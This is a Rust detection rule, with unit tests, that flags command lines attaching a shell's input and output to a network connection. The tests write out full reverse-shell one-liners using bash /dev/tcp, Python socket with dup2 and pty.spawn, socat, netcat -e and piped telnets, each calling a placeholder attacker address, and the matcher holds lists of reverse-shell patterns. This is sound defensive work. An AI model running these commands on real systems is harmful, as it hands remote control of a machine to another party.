//! # IPC-UX-014: Shell with its input and output on a network connection
//!
//! ## What it detects
//! A command line that redirects a shell's standard input and output to a network connection without a FIFO:
//! `/dev/tcp`, an interpreter's socket with `dup2` or `pty.spawn`, `socat EXEC:`, netcat's `-e`, two telnets around a
//! shell.
//!
//! ## Why it matters
//! The machine at the other end of the connection controls the shell.
//!
//! ## Telemetry
//! auditd execve with its arguments; Endpoint Security exec; Sysmon 1.
//!
//! ## False positives
//! Training labs. A `/dev/tcp` port check opens a connection, but runs no shell on it, and is not reported.
//!
//! ## References
//! ATT&CK T1559, T1059.004; DET0493 (AN1358).

use backchannel_events::{ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source};

use crate::context::wording::Wording;
use crate::text::clip;
use crate::vocabulary::sockets;
use crate::{Analytic, Context, Evidence, Family};

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-UX-014",
    title: "Shell with its input and output on a network connection",
    family: Family::UnixIpc,
    techniques: &["T1559", "T1059.004"],
    attack_analytics: &["AN1358"],
    severity: Severity::Critical,
    on: &[ActivityKind::ProcessStart],
    telemetry: &[Source::Auditd, Source::EndpointSecurity, Source::Sysmon],
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    if !matches!(event.provenance.source, Source::Auditd | Source::EndpointSecurity | Source::Sysmon) {
        return None;
    }
    let started = context.subject();
    let how = how(context.wording()?)?;
    let text = format!(
        "{} of {} runs a shell on a network connection ({how}): {}",
        started.name(),
        started.account(),
        clip(started.command_line, 200),
    );
    let evidence = Evidence::new(Severity::Critical, Confidence::High, text)
        .reasons(Reasons::UNKNOWN_BINARY)
        .indicators(Indicators::UNEXPECTED_USE)
        .client(started)
        .channel(Mechanism::AnonymousPipe, "standard input and output");
    Some(evidence)
}

/// How a command line connects a shell to a network connection.
fn how(wording: &Wording<'_>) -> Option<&'static str> {
    let command = wording.text();
    if command.len() < 12 {
        return None;
    }
    let redirected = |wording: &Wording<'_>| {
        wording.contains_any(&[
            "0>&1",
            ">& /dev/tcp",
            ">&/dev/tcp",
            "<>/dev/tcp",
            "<> /dev/tcp",
            "0<&",
            "<&3",
            "<&5",
            "<&196",
        ])
    };
    if wording.contains_any(&["/dev/tcp/", "/dev/udp/"]) && redirected(wording) && sockets::names_shell(command) {
        return Some("/dev/tcp");
    }
    let socket = wording.contains("socket") && wording.contains_any(&["connect", "fsockopen", "TCPSocket", "INET"]);
    if (socket || wording.contains("fsockopen"))
        && wording.contains_any(&["dup2", "pty.spawn", "STDIN,", "open(STDIN", "proc_open", "exec(\"/bin", "exec('/bin", "subprocess"])
        && wording.contains_any(&["/sh", "/bash", "sh -i", "pty.spawn", "cmd.exe"])
        // Left to the analytic for FIFO reverse shells.
        && !wording.contains("mkfifo")
    {
        return Some("an interpreter's socket");
    }
    if wording.contains("socat ")
        && wording.contains_any(&["EXEC:", "SYSTEM:"])
        && wording.contains_any(&["TCP:", "TCP4:", "TCP-CONNECT", "OPENSSL:", "TCP6:"])
        && wording.contains("sh")
    {
        return Some("socat");
    }
    let netcat = wording.contains_any(&["nc ", "ncat ", "netcat "]);
    if netcat
        && wording.contains_any(&[
            " -e /bin",
            " -e bash",
            " -e sh",
            " -c /bin",
            " -c bash",
            " -c sh",
            "--exec ",
            "--sh-exec ",
            " -lvpe",
            " -e /usr/bin",
        ])
        && sockets::names_shell(&format!("{command} "))
    {
        return Some("netcat");
    }
    let telnets = command.matches("telnet ").count() >= 2;
    if telnets && wording.contains_any(&["|/bin", "| /bin", "|sh", "| sh", "|bash", "| bash"]) {
        return Some("two telnets");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    fn run(command: &'static str) -> Vec<Event> {
        vec![start(0, "/usr/bin/bash", command).pid(7).uids("1001", "1001", "1001")]
    }

    #[test]
    fn the_usual_ways_fire() {
        for command in [
            "bash -c bash -i >& /dev/tcp/192.0.2.7/9001 0>&1",
            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")",
            "socat TCP:192.0.2.7:9001 EXEC:/bin/bash,pty,stderr",
            "nc 192.0.2.7 9001 -e /bin/sh",
            "sh -c telnet 192.0.2.7 1 | /bin/sh | telnet 192.0.2.7 2",
        ] {
            check(&ANALYTIC, &run(command), Some((Severity::Critical, Confidence::High)));
        }
    }

    #[test]
    fn port_checks_and_ordinary_clients_are_quiet() {
        for command in [
            "bash -c exec 3<>/dev/tcp/127.0.0.1/5432 && echo open",
            "python3 -c import socket;s=socket.socket();s.connect((\"db\",5432));print(\"ok\")",
            "nc -z 192.0.2.7 22",
            "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
        ] {
            check(&ANALYTIC, &run(command), None);
        }
    }
}
